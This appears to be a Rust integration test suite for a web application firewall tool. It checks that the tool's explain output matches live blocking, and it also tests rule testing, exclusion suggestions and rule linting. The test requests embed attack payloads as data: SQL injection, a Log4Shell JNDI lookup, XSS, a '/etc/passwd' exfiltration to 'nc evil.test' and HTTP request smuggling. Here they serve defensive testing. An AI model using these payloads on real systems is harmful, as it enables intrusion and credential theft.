//! `portcullis waf …` from the outside: the same answers as the wire, without traffic.

use crate::support::{client::Client, gateway::Gateway, gateway::run_in, origin::Origin};
use serde_json::Value;
use std::path::Path;

const CONFIG: &str = r#"
[telemetry]
audit_log = { to = { file = "audit.log" } }
[listener.http]
address = "127.0.0.1:0"
[defaults]
waf.mode = "detect"
may_relax = ["waf"]
[waf.site]
rules = ["builtin"]
include = ["own.conf"]
[upstream.app]
endpoints = ["ORIGIN"]
[route.app]
upstream = "app"
waf = { mode = "block", paranoia = 1 }
[route.app.rule.blog]
path = "/blog"
waf = { exclude = [{ rule = "120000-120999", target = "ARGS:comment", path = "/blog/*", reason = "readers quote SQL" }] }
[route.app.rule.off]
path = "/off"
relax = ["waf"]
waf.mode = "off"
"#;

const OWN: &str = "SecRule ARGS:colour \"@streq mauve\" \"id:1001,phase:2,deny,status:406,log,msg:'no mauve'\"\n\
    SecRule ARGS:shape \"@streq round\" \"id:1002,phase:2,deny,log,msg:'round, and large: %{ARGS.size}',chain\"\n\
    SecRule ARGS:size \"@gt 10\"\n";

fn folder() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("own.conf"), OWN).unwrap();
    std::fs::write(folder.path().join("edge.toml"), CONFIG.replace("ORIGIN", "127.0.0.1:1")).unwrap();
    folder
}

async fn ask(folder: &Path, args: &[&str]) -> (i32, String) {
    run_in(folder, &[&["waf"], args].concat()).await
}

async fn explained(folder: &Path, args: &[&str]) -> Value {
    let (code, out) = ask(folder, &[&["explain", "--format", "json"], args].concat()).await;
    assert_eq!(code, 0, "{args:?}\n{out}");
    serde_json::from_str(&out).unwrap_or_else(|error| panic!("{error}\n{out}"))
}

const SQL: &str = "1%27%20UNION%20SELECT%20password%20FROM%20users--";

#[tokio::test]
async fn what_explain_says_is_what_the_wire_does() {
    let origin = Origin::fixed("ok").await;
    let folder = folder();
    let gateway = Gateway::start_in(folder, &CONFIG.replace("ORIGIN", &origin.addr.to_string())).await;
    for (method, target, field, body) in [
        ("GET", "/?q=red+shoes".to_owned(), "", ""),
        ("GET", format!("/?q={SQL}"), "", ""),
        ("GET", format!("/blog/7?comment={SQL}"), "", ""),
        ("GET", format!("/blog/7?title={SQL}"), "", ""),
        ("GET", "/?colour=mauve".to_owned(), "", ""),
        ("GET", "/?shape=round&size=9".to_owned(), "", ""),
        ("GET", "/?shape=round&size=11".to_owned(), "", ""),
        ("GET", "/".to_owned(), "User-Agent: sqlmap/1.8", ""),
        ("GET", "/".to_owned(), "X_Word: ${jndi:ldap://evil.test/a}", ""),
        ("GET", "/".to_owned(), "X-Word: ${jndi:ldap://evil.test/a}", ""),
        ("POST", "/form".to_owned(), "", "comment=%3Cscript%3Ealert(1)%3C/script%3E"),
        ("POST", "/json".to_owned(), "Content-Type: application/json", r#"{"a":"; cat /etc/passwd | nc evil.test 1"}"#),
        ("POST", "/json".to_owned(), "Content-Type: application/json", r#"{"a":"a day at the sea"}"#),
    ] {
        let mut fields = vec!["Host: shop.test", "Accept: */*"];
        if !field.starts_with("User-Agent") {
            fields.push("User-Agent: curl/8.10.1");
        }
        fields.extend(Some(field).filter(|field| !field.is_empty()));
        if !body.is_empty() && field.is_empty() {
            fields.push("Content-Type: application/x-www-form-urlencoded");
        }
        let length = format!("Content-Length: {}", body.len());
        fields.extend(Some(length.as_str()).filter(|_| !body.is_empty()));
        let request = format!("{method} {target} HTTP/1.1\r\n{}\r\n\r\n{body}", fields.join("\r\n"));
        let mut client = Client::connect(gateway.addr("http")).await;
        client.send(&request).await;
        let wire = u64::from(client.response().await.status);

        let url = format!("http://shop.test{target}");
        let mut args = vec![method, url.as_str(), "--config", "edge.toml"];
        args.extend(["-H", field].into_iter().filter(|_| !field.is_empty()));
        args.extend(["-d", body].into_iter().filter(|_| !body.is_empty()));
        let by_words = explained(gateway.path(), &args).await;
        std::fs::write(gateway.path().join("request.http"), &request).unwrap();
        let by_file = explained(gateway.path(), &["request.http", "--config", "edge.toml"]).await;
        for answer in [by_words, by_file] {
            assert_eq!(
                answer["refused"]["status"].as_u64().unwrap_or(200),
                wire,
                "{method} {target} {body}\n{answer:#}"
            );
        }
    }
}

#[tokio::test]
async fn an_explanation_has_scores_matches_near_misses_and_exclusions() {
    let folder = folder();
    let url = format!("http://shop.test/?q={SQL}");
    let answer = explained(folder.path(), &["GET", &url, "--config", "edge.toml"]).await;
    assert_eq!(
        (&answer["route"], &answer["rule_set"], &answer["mode"]),
        (&"app".into(), &"site".into(), &"block".into())
    );
    assert_eq!(answer["passes_at_paranoia"], serde_json::json!([]));
    let points: i64 = answer["matches"].as_array().unwrap().iter().map(|one| one["score"].as_i64().unwrap()).sum();
    assert!(points >= 5 && answer["categories"]["class/sqli"] == points, "{answer:#}");
    assert!(answer["refused"]["why"].as_str().unwrap().contains("190002"), "{answer:#}");

    let answer =
        explained(folder.path(), &["GET", "http://shop.test/?shape=round&size=9", "--config", "edge.toml"]).await;
    let near = &answer["near_misses"][0];
    assert_eq!((&near["id"], &near["held"], &near["conditions"]), (&1002.into(), &1.into(), &2.into()), "{answer:#}");
    assert_eq!(answer["passes_at_paranoia"], serde_json::json!([1, 2, 3, 4]));

    let url = format!("http://shop.test/blog/1?comment={SQL}");
    let answer = explained(folder.path(), &["GET", &url, "--config", "edge.toml"]).await;
    assert_eq!(answer["exclusions"], serde_json::json!(["readers quote SQL"]));
    assert_eq!(answer["route"], "app/blog");

    // The set by itself knows no exclusion of any route.
    let answer = explained(folder.path(), &["GET", &url, "--config", "edge.toml", "--waf", "site"]).await;
    assert_eq!(answer["refused"]["status"], 403);
    let (_, text) =
        ask(folder.path(), &["explain", "GET", &url, "--rules", "builtin", "own.conf", "--rule", "120102"]).await;
    assert!(text.contains("decision   refused with 403") && text.contains("condition 1  ARGS:comment"), "{text}");
}

#[tokio::test]
async fn what_is_refused_before_the_rules_and_what_cannot_be_asked() {
    let folder = folder();
    let smuggle = "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
    std::fs::write(folder.path().join("smuggle.http"), smuggle).unwrap();
    std::fs::write(
        folder.path().join("bad.conf"),
        "SecRule ARGS \"@rx x\" \"id:1,phase:2\"\n\nSecRule ARGZ \"@rx x\" \"id:2\"\n",
    )
    .unwrap();
    for (args, code, words) in [
        (&["smuggle.http"][..], 2, "before any rule sees it"),
        (&["none.http"], 2, "none.http cannot be read"),
        (&["GET", "/relative"], 2, "names no host"),
        (&["smuggle.http", "-d", "x"], 2, "a file says everything itself"),
        (&["GET", "http://a.test/off", "--config", "edge.toml"], 2, "no rule set looks at it"),
        (&["GET", "http://a.test/", "--config", "edge.toml", "--waf", "sight"], 2, "no rule set \"sight\""),
        (&["GET", "http://a.test/", "--rules", "bad.conf"], 1, "bad.conf:3: "),
    ] {
        let (got, out) = ask(folder.path(), &[&["explain"], args].concat()).await;
        assert!(got == code && out.contains(words), "{args:?}: {got}\n{out}");
    }
}

const TESTS: &str = "rule_id: 1001\ntests:\n\
    - test_id: 1\n  stages:\n  - input: {uri: '/?colour=mauve', headers: {Host: a.test, User-Agent: x, Accept: '*/*'}}\n    output: {log: {expect_ids: [1001]}}\n\
    - test_id: 2\n  stages:\n  - input: {method: POST, uri: '/', data: 'colour=green', headers: {Host: a.test, User-Agent: x, Accept: '*/*'}}\n    output: {log: {no_expect_ids: [1001]}}\n\
    - test_id: 3\n  stages:\n  - input: {uri: '/?colour=mauve', headers: {Host: a.test, User-Agent: x, Accept: '*/*'}}\n    output: {status: 406}\n";

#[tokio::test]
async fn tests_of_rules_are_run_without_a_server() {
    let folder = folder();
    let tests = folder.path().join("tests");
    std::fs::create_dir(&tests).unwrap();
    std::fs::write(tests.join("1001.yaml"), TESTS).unwrap();
    let (code, out) = ask(folder.path(), &["test", "tests", "--config", "edge.toml"]).await;
    assert!(
        code == 0 && out.contains("2 of 3 passed, 0 failed, 0 ignored, 1 not judged; rules: site (1"),
        "{code}\n{out}"
    );
    let (code, out) = ask(folder.path(), &["test", "tests", "--mode", "block", "--rules", "builtin", "own.conf"]).await;
    assert!(code == 0 && out.contains("3 of 3 passed"), "{code}\n{out}");
    let broken = ["test", "tests", "--rules", "builtin"];
    let (code, out) = ask(folder.path(), &broken).await;
    assert!(code == 1 && out.contains("FAILED   1001-1 (tests/1001.yaml): 1001 did not match"), "{code}\n{out}");
    let (code, out) = ask(folder.path(), &[&broken[..], &["--ignore", "1001-1", "1001-2"]].concat()).await;
    assert!(code == 0 && out.contains("ignored  1001-1") && out.contains("to be ignored: 1001-2"), "{code}\n{out}");
    let (code, out) = ask(folder.path(), &[&broken[..], &["--only", "7"]].concat()).await;
    assert!(code == 2 && out.contains("there is no test to run"), "{code}\n{out}");
}

/// A walk through everything: traffic, its audit lines, the proposal, the proposal in the configuration, and the same traffic again.
#[tokio::test]
async fn what_is_suggested_lets_the_same_requests_pass_and_no_others() {
    let origin = Origin::fixed("ok").await;
    let folder = folder();
    let config = CONFIG.replace("ORIGIN", &origin.addr.to_string());
    let mut gateway = Gateway::start_in(folder, &config).await;
    let comment = |path: &str, name: &str| format!("{path}?{name}={SQL}");
    let status = async |gateway: &Gateway, target: &str, agent: &str| {
        let mut client = Client::connect(gateway.addr("http")).await;
        client
            .send(format!("GET {target} HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: {agent}\r\nAccept: */*\r\n\r\n"))
            .await;
        client.response().await.status
    };
    let wanted: Vec<String> = (1..=4).map(|id| comment(&format!("/item/{id}/review"), "text")).collect();
    let others = [comment("/item/1/review", "name"), comment("/item/1", "text"), comment("/", "text")];
    for target in &wanted {
        assert_eq!(status(&gateway, target, "Mozilla/5.0").await, 403);
    }
    let lines = crate::support::eventually("audit lines", async || {
        let text = std::fs::read_to_string(gateway.path().join("audit.log")).unwrap_or_default();
        (text.lines().count() == wanted.len()).then_some(text)
    })
    .await;
    std::fs::write(gateway.path().join("seen.jsonl"), format!("{lines}not json\n")).unwrap();
    let (code, toml) = ask(gateway.path(), &["suggest", "--from", "seen.jsonl", "--config", "edge.toml"]).await;
    assert_eq!(code, 0, "{toml}");
    for words in [
        "[route.app.waf]",
        "target = \"ARGS:text\", path = \"/item/*/review\", methods = [\"GET\"]",
        "4 requests from 1 clients",
        "1 lines could not be read",
    ] {
        assert!(toml.contains(words), "{words}\n{toml}");
    }
    assert!(!toml.contains("190002\""), "the rule that adds up is none to exclude\n{toml}");

    let exclude = toml.lines().filter(|line| line.starts_with("  {")).collect::<Vec<_>>().join("\n");
    let patched = config.replace("paranoia = 1 }", &format!("paranoia = 1, exclude = [\n{exclude}\n] }}"));
    let (code, answer) = gateway.reload(&patched).await;
    assert_eq!(code, 200, "{answer}");
    for target in &wanted {
        assert_eq!(status(&gateway, target, "Mozilla/5.0").await, 200, "{target}");
    }
    for target in &others {
        assert_eq!(status(&gateway, target, "Mozilla/5.0").await, 403, "{target}");
    }

    for (args, words) in [
        (&["--min-clients", "2"][..], "Nothing to propose"),
        (&["--min-requests", "5"], "Nothing to propose"),
        (&["--hostile-rules", "1"], "Nothing to propose"),
        (&["--route", "app/blog"], "Nothing to propose"),
        (&["--rule", "7"], "Nothing to propose"),
        (&["--route", "app"], "/item/*/review"),
    ] {
        let (code, out) = ask(gateway.path(), &[&["suggest", "--from", "seen.jsonl"], args].concat()).await;
        assert!(code == 0 && out.contains(words), "{args:?}\n{out}");
    }
    let (code, out) = ask(gateway.path(), &["suggest", "--from", "seen.jsonl", "--rules", "own.conf"]).await;
    assert!(code == 2 && out.contains("not written by these rules"), "{out}");
}

#[tokio::test]
async fn rules_are_linted_with_their_costs() {
    let folder = folder();
    let heavy = "SecRule ARGS \"@rx ^.{3}$\" \"id:1,phase:2,deny,msg:'three'\"\nSecRule ARGS \"@rx (?i)needle\" \"id:2,phase:2,deny,msg:'cheap'\"\n";
    std::fs::write(folder.path().join("heavy.conf"), heavy).unwrap();
    let (code, out) = ask(folder.path(), &["check", "heavy.conf"]).await;
    assert!(
        code == 0 && out.contains("heavy.conf:1: rule 1 runs on every value") && out.contains("2 rules are fit to run"),
        "{code}\n{out}"
    );
    let (code, out) = ask(folder.path(), &["check", "heavy.conf", "--format", "json", "--max-cost", "500"]).await;
    let found: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        (code, &found["too_dear"], &found["dearest"][0]["id"]),
        (1, &serde_json::json!([1]), &1.into()),
        "{out}"
    );
    let (code, out) = ask(folder.path(), &["check", "--config", "edge.toml", "--dearest", "3"]).await;
    assert!(code == 0 && out.contains("rules are fit to run"), "{code}\n{out}");
    std::fs::write(folder.path().join("bad.conf"), "SecRule ARGS \"@rx (\" \"id:1,phase:2\"\nSecRuel X\n").unwrap();
    let (code, out) = ask(folder.path(), &["check", "bad.conf"]).await;
    assert!(
        code == 1 && out.contains("bad.conf:1: ") && out.contains("bad.conf:2: "),
        "all of them at once: {code}\n{out}"
    );
}
